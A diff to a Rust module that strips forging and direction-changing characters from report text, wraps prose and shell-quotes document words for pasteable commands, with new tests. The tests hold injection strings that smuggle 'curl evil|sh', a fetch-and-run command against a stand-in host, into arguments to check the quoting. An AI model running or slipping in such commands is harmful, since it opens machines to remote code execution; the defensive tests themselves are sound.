@@ -6,7 +6,7 @@ use std::borrow::Cow;
 const LONGEST: usize = 120;
 
 /// Whether a character could forge a line of a report, or turn the direction of writing.
-fn harmful(c: char) -> bool {
+pub fn harmful(c: char) -> bool {
     c.is_control() || matches!(c, '\u{200e}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
 
@@ -19,15 +19,42 @@ pub fn shown(text: &str) -> String {
     text.chars().filter(|c| !harmful(*c)).take(LONGEST).collect()
 }
 
+/// A text for people, in which nothing harmful is left.
+pub fn plain(text: &str) -> String {
+    text.chars().map(|c| if harmful(c) { char::REPLACEMENT_CHARACTER } else { c }).collect()
+}
+
+/// Prose in lines of at most `width` characters that end at word boundaries, where the first begins in this column.
+pub fn wrap(text: &str, column: usize, width: usize) -> Vec<String> {
+    let mut lines: Vec<String> = Vec::new();
+    for word in text.split(' ') {
+        match lines.last_mut() {
+            Some(line) if column + line.chars().count() + 1 + word.chars().count() <= width => {
+                line.push(' ');
+                line.push_str(word);
+            }
+            _ => lines.push(word.to_owned()),
+        }
+    }
+    lines
+}
+
 /// A word from a document, as an argument of a command that people may paste: quoted where a shell could read more
 /// than a word in it.
 pub fn argument(text: &str) -> String {
     let word = shown(text);
-    if !word.is_empty() && word.bytes().all(|b| b.is_ascii_alphanumeric() || b":/_.,=@+-".contains(&b)) {
-        word
-    } else {
-        format!("'{}'", word.replace('\'', ""))
-    }
+    if is_one_word(&word) { word } else { format!("'{}'", word.replace('\'', "")) }
+}
+
+/// The same for an argument that means nothing where it is cut, such as a document.
+pub fn whole_argument(text: &str) -> String {
+    let word: String = text.chars().filter(|c| !harmful(*c)).collect();
+    if is_one_word(&word) { word } else { format!("'{}'", word.replace('\'', "'\\''")) }
+}
+
+/// Whether every shell reads it as the one word that it is.
+fn is_one_word(text: &str) -> bool {
+    !text.is_empty() && text.bytes().all(|b| b.is_ascii_alphanumeric() || b":/_.,=@+-".contains(&b))
 }
 
 /// The text of a policy without its URL encoding, if it has one; none where what is decoded is no text. IAM encodes in
@@ -65,5 +92,8 @@ mod tests {
         assert_eq!(argument("subnet-1"), "subnet-1");
         assert_eq!(argument("subnet-1; curl evil|sh #"), "'subnet-1; curl evil|sh #'");
         assert_eq!(argument("a'b"), "'ab'");
+        assert_eq!(whole_argument("a'; curl evil|sh #\n"), "'a'\\''; curl evil|sh #'");
+        assert_eq!(whole_argument(&"s".repeat(500)).len(), 500);
+        assert_eq!(plain("a\nb"), "a\u{fffd}b");
     }
 }
